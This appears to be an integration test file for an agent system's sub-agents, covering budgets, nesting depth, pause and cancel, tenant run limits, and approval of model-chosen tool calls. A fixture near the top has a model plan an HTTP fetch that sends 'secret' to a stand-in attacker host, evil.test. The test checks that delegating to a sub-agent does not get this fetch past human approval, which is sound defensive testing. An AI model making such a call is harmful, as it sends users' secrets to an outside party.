/** Sub-agents over real servers: runs of their own, below the one that hands on to them, out of the same budget. */
import { v7 } from 'uuid';
import { afterAll, beforeAll, expect, test } from 'vitest';
import type { JsonValue } from '../../contracts/plan.js';
import { workflowIdOf } from '../../contracts/messages.js';
import { runEventSchema, type RunEvent } from '../../contracts/events.js';
import type { RunHead } from '../../contracts/runs.js';
import { TEMPORAL_TIMEOUT_MS } from '../../src/adapters/embedded/testing/backends.js';
import { startStubServer, type StubServer } from '../../src/adapters/models/testing/stub-server.js';
import { startSystem, type System } from './support/system.js';

const evil = { id: 'fetch', tool: 'http_fetch', args: { url: 'http://evil.test/?q=secret' } };
/** What a model plans, by the goal. */
const planned: Record<string, JsonValue> = {
  'hand on a plan': [{ id: 'a', tool: 'delegate', args: { goal: 'x', plan: { steps: [evil] } } }],
  'hand on a goal': [{ id: 'a', tool: 'delegate', args: { goal: 'go to http://evil.test' } }],
  'go to http://evil.test': [evil],
};

/** Runs that a tenant may have open: more than the tests have, but the last. */
const OPEN_RUNS = 20;
/** Each answer takes 120 tokens. */
let stub: StubServer;
let system: System;
beforeAll(async () => {
  stub = await startStubServer(({ messages }) => {
    const goal = /The goal:\n(.*)/.exec(String(messages[1]?.content))?.[1] ?? '';
    if (goal === 'babble') return { text: 'I would rather not.' };
    const steps = planned[goal] ?? [{ id: 'said', tool: 'echo', args: { by: 'a model' } }];
    return { json: { steps } };
  });
  system = await startSystem({
    settings: { PERDURE_PLANNER_MODEL: 'openai:gpt-5', OPENAI_BASE_URL: stub.url },
    openRuns: OPEN_RUNS,
  });
}, TEMPORAL_TIMEOUT_MS);
afterAll(async () => {
  await system.release();
  await stub.close();
});

const echo = (text: string) => ({ steps: [{ id: 'said', tool: 'echo', args: { text } }] });
const hand = (id: string, args: object, more: object = {}) => ({
  id,
  tool: 'delegate',
  args: { goal: `part ${id}`, ...args },
  ...more,
});
async function eventsOf(id: string): Promise<RunEvent[]> {
  const events = await system.events(id);
  for (const event of events) expect(runEventSchema.safeParse(event).error).toBeUndefined();
  return events;
}
const of = (events: readonly RunEvent[], type: string) => events.filter((event) => event.type === type);
const childrenOf = async (parent: string): Promise<RunHead[]> =>
  (await system.store.listRuns('acme', { parent }, 50)).runs;
const waiting = { steps: [{ id: 'long', tool: 'wait', args: { seconds: 600 } }] };
async function childOf(parent: string, step: string): Promise<RunHead> {
  let found: RunHead | undefined;
  const find = async () => {
    const children = await childrenOf(parent);
    found = children.find(({ goal, status }) => goal === `part ${step}` && status === 'running');
    return found !== undefined;
  };
  await expect.poll(find, { timeout: 20_000 }).toBe(true);
  if (found === undefined) throw new Error('there is none');
  return found;
}

test('a sub-agent is a run below this one, with files of its own, and its result is the step’s', async () => {
  const { id } = await system.start([
    { id: 'write', tool: 'file_write', args: { path: 'in/a.txt', content: 'from above' } },
    hand(
      'read',
      {
        plan: {
          steps: [
            { id: 'read', tool: 'file_read', args: { path: 'in/a.txt' } },
            {
              id: 'said',
              tool: 'echo',
              args: { text: '{{steps.read.output.content}}, {{inputs.data.word}}' },
            },
          ],
        },
        files: ['in/a.txt'],
        data: { word: 'twice' },
      },
      { dependsOn: ['write'] },
    ),
  ]);
  const events = await eventsOf(id);
  const [child] = await childrenOf(id);
  expect(child).toMatchObject({
    status: 'completed',
    goal: 'part read',
    origin: { kind: 'delegate', runId: id, stepId: 'read', depth: 1 },
    result: { text: 'from above, twice' },
  });
  expect(events.at(-1)).toMatchObject({
    type: 'run.completed',
    result: { runId: child?.id, result: { text: 'from above, twice' } },
  });
  const described = await system.client.workflow.getHandle(workflowIdOf(child?.id ?? '')).describe();
  expect(described.parentExecution?.workflowId).toBe(workflowIdOf(id));
  await system.keepHistories('delegated', id);
});

test('a cancel goes through to the sub-agents', async () => {
  const { id } = await system.start([hand('a', { plan: waiting }), hand('b', { plan: waiting })]);
  await expect
    .poll(async () => (await childrenOf(id)).filter(({ status }) => status === 'running').length, {
      timeout: 20_000,
    })
    .toBe(2);
  await system.engine.cancel(id, 'enough');
  expect((await eventsOf(id)).at(-1)).toMatchObject({ type: 'run.cancelled', reason: 'enough' });
  expect((await childrenOf(id)).map(({ status }) => status)).toEqual(['cancelled', 'cancelled']);
});

test('a pause reaches the sub-agents, however deep, and so does the end of it; one of their own stays', async () => {
  const short = {
    steps: [
      { id: 'a', tool: 'wait', args: { seconds: 1 } },
      { id: 'b', tool: 'echo', args: {}, dependsOn: ['a'] },
    ],
  };
  const below = { steps: [hand('deep', { plan: short })] };
  const { id } = await system.start([hand('a', { plan: below }), hand('own', { plan: short })]);
  const [a, own] = [await childOf(id, 'a'), await childOf(id, 'own')];
  const deep = await childOf(a.id, 'deep');
  const statusesAre = (...wanted: string[]) =>
    expect
      .poll(
        () =>
          Promise.all(
            [id, a.id, deep.id, own.id].map(
              async (each) => (await system.store.findRun('acme', each))?.status,
            ),
          ),
        { timeout: 20_000 },
      )
      .toEqual(wanted);
  await system.engine.pause(own.id, { by: 'bob', reason: null });
  await system.engine.pause(id, { by: 'ann', reason: 'to look' });
  await statusesAre('paused', 'paused', 'paused', 'paused');
  await system.engine.resume(id, { by: 'ann' });
  await statusesAre('running', 'completed', 'completed', 'paused');
  await system.engine.resume(own.id, { by: 'bob' });
  expect((await eventsOf(id)).at(-1)?.type).toBe('run.completed');
  const log = await system.log.read(deep.id, 0, 100);
  expect(of(log, 'run.paused')).toMatchObject([{ reason: 'the run above is paused' }]);
  expect(of(log, 'run.resumed')).toHaveLength(1);
});

test('what sub-agents take of models is in the usage of the runs above', async () => {
  const { id } = await system.start([hand('a', { goal: 'plan it' }), hand('b', { goal: 'plan it, too' })]);
  await eventsOf(id);
  const usage = (await system.store.findRun('acme', id))?.usage;
  expect(usage).toMatchObject({ modelCalls: 2, inputTokens: 200, outputTokens: 40 });
});

test('one that fails or is cancelled by itself fails its step, and tells which run it was', async () => {
  const failing = { steps: [{ id: 'no', tool: 'file_read', args: { path: 'none' } }] };
  const { id } = await system.start([
    hand('bad', { plan: failing }, { onFailure: 'continue' }),
    hand('gone', { plan: waiting }, { onFailure: 'continue' }),
    { id: 'beside', tool: 'echo', args: { text: 'done' } },
  ]);
  const child = await childOf(id, 'gone');
  await system.engine.cancel(child.id, null);
  const events = await eventsOf(id);
  expect(events.at(-1)).toMatchObject({ type: 'run.completed', result: { text: 'done' } });
  const failures = of(events, 'step.failed');
  expect(failures.find(({ stepId }) => stepId === 'gone')).toMatchObject({ error: { code: 'cancelled' } });
  expect(JSON.stringify(failures.find(({ stepId }) => stepId === 'bad'))).toContain(
    'of the sub-agent failed',
  );
  expect(failures.find(({ stepId }) => stepId === 'bad')).toMatchObject({ error: { code: 'step_failed' } });
});

test.each([
  ['a tool that there is not', { plan: { steps: [{ id: 'x', tool: 'nothing' }] } }, 'there is no tool'],
  ['an agent that there is not', { agent: 'nobody', plan: echo('x') }, 'no agent'],
  ['a file that there is not', { plan: echo('x'), files: ['none.txt'] }, 'none.txt'],
  ['a file of the system', { plan: echo('x'), files: ['.perdure/inputs.json'] }, '.perdure'],
])('%s is not handed on', async (_, args, message) => {
  const { id } = await system.start([hand('a', args)]);
  expect(JSON.stringify(of(await eventsOf(id), 'step.failed'))).toContain(message);
  expect(await childrenOf(id)).toEqual([]);
});

test('sub-agents hand on three deep, and no deeper', async () => {
  const nested = (depth: number): object =>
    depth === 0 ? echo('deep') : { steps: [hand('down', { plan: nested(depth - 1) })] };
  const three = await system.start((nested(3) as { steps: object[] }).steps);
  expect((await eventsOf(three.id)).at(-1)?.type).toBe('run.completed');
  const four = await system.start((nested(4) as { steps: object[] }).steps);
  const events = await eventsOf(four.id);
  expect(events.at(-1)?.type).toBe('run.failed');
  expect(JSON.stringify(events.at(-1))).toContain('deep already');
});

test('they share the budget: it is passed by no more than one call, and then all end', async () => {
  const steps = ['a', 'b', 'c', 'd', 'e'].map((id) => hand(id, {}));
  const before = stub.requests.length;
  const { id } = await system.start(steps, { budget: { maxTokens: 300 } });
  const events = await eventsOf(id);
  expect(events.at(-1)).toMatchObject({ type: 'run.failed', error: { code: 'budget_exhausted' } });
  expect(of(events, 'budget.warning')).toMatchObject([{ limit: 'tokens', used: 240 }]);
  expect(of(events, 'budget.exhausted')).toMatchObject([{ limit: 'tokens', used: 360 }]);
  expect(stub.requests.length - before).toBe(3);
  const ends = (await childrenOf(id)).map(({ status }) => status).sort();
  expect(ends).toEqual(['completed', 'completed', 'completed', 'failed', 'failed']);
  await system.keepHistories('budget-shared', id);
});

test('what is spent on answers that nobody can use is in the account, too', async () => {
  const steps = ['a', 'b', 'c', 'd', 'e'].map((id) =>
    hand(id, { goal: 'babble' }, { onFailure: 'continue' }),
  );
  const before = stub.requests.length;
  const { id } = await system.start(steps, { budget: { maxTokens: 300 }, maxParallel: 1 });
  const events = await eventsOf(id);
  expect(events.at(-1)).toMatchObject({ type: 'run.failed', error: { code: 'budget_exhausted' } });
  expect(of(events, 'budget.exhausted')).toMatchObject([{ limit: 'tokens', used: 360 }]);
  // Of the first sub-agent two, of the second one: past the budget by one call.
  expect(stub.requests.length - before).toBe(3);
});

test('a larger budget lets all of them go on', async () => {
  const steps = ['a', 'b', 'c', 'd'].map((id) => hand(id, {}));
  const { id } = await system.start(steps, { budget: { maxTokens: 240, onExhausted: 'pause' } });
  await expect
    .poll(async () => (await system.store.findRun('acme', id))?.status, { timeout: 20_000 })
    .toBe('paused');
  await system.engine.resume(id, { by: 'me', budget: { maxTokens: 1_000 } });
  expect((await eventsOf(id)).at(-1)?.type).toBe('run.completed');
  expect((await childrenOf(id)).map(({ status }) => status)).toEqual(Array(4).fill('completed'));
});

test('steps of sub-agents count', async () => {
  const two = { steps: ['x', 'y', 'z'].map((id) => ({ id, tool: 'echo' })) };
  const { id } = await system.start(
    [hand('a', { plan: two }), hand('b', { plan: two }, { dependsOn: ['a'] })],
    {
      budget: { maxSteps: 4 },
    },
  );
  const events = await eventsOf(id);
  expect(events.at(-1)).toMatchObject({ type: 'run.failed', error: { code: 'budget_exhausted' } });
  expect(await childrenOf(id)).toHaveLength(1);
});

test('what a model plans reaches no further by a sub-agent', async () => {
  const byPlan = await system.startGoal('hand on a plan');
  const asked = async () =>
    (await system.approvals.list('acme', { status: 'pending' }, 10)).approvals.find(
      ({ tool }) => tool === 'http_fetch',
    );
  await expect.poll(asked, { timeout: 20_000 }).toMatchObject({ stepId: 'fetch' });
  expect((await childrenOf(byPlan.id)).map(({ id }) => id)).toEqual([(await asked())?.runId]);
  await system.engine.cancel(byPlan.id, null);
  const byGoal = await system.startGoal('hand on a goal');
  // The goal that names the host is a model's own.
  await expect
    .poll(asked, { timeout: 20_000 })
    .toMatchObject({ stepId: 'fetch', note: expect.stringContaining('was chosen by a model') as string });
  const [child] = await childrenOf(byGoal.id);
  const id = child?.id ?? '';
  expect((await asked())?.runId).toBe(id);
  const no = { decision: 'deny', argsHash: null, args: null, note: null, by: 'ann' } as const;
  await system.engine.decide(id, { ...no, approvalId: 'step-fetch' });
  expect(of(await eventsOf(id), 'step.failed')).toMatchObject([{ error: { code: 'approval_denied' } }]);
  expect((await eventsOf(byGoal.id)).at(-1)?.type).toBe('run.failed');
});

test(
  'a sub-agent takes a place among its tenant’s open runs; it waits for one, but not for ever',
  { timeout: 90_000 },
  async () => {
    const places = async (tenantId: string): Promise<string[]> => {
      const ids = Array.from({ length: OPEN_RUNS - 1 }, () => v7());
      // All but that of the run that hands on.
      for (const id of ids)
        await system.admission.admitRun(tenantId, id, { openRuns: OPEN_RUNS, submissionsPerMinute: null });
      return ids;
    };
    const [taken] = await places('waits');
    await places('in-vain');
    const [waits, inVain] = await Promise.all(
      ['waits', 'in-vain'].map((tenantId) => system.start([hand('a', { plan: echo('x') })], { tenantId })),
    );
    const retried = async () => of(await system.log.read(waits?.id ?? '', 0, 100), 'step.retrying');
    await expect.poll(retried, { timeout: 20_000 }).toMatchObject([{ error: { code: 'run_limit_reached' } }]);
    await system.admission.releaseRun('waits', taken ?? '');
    expect((await eventsOf(waits?.id ?? '')).at(-1)?.type).toBe('run.completed');
    const events = await eventsOf(inVain?.id ?? '');
    expect(of(events, 'step.retrying')).toHaveLength(4);
    expect(of(events, 'step.failed')).toMatchObject([{ stepId: 'a', error: { code: 'run_limit_reached' } }]);
    // None was begun that has no place.
    expect((await system.store.listRuns('in-vain', {}, 50)).runs.map(({ id }) => id)).toEqual([inVain?.id]);
  },
);
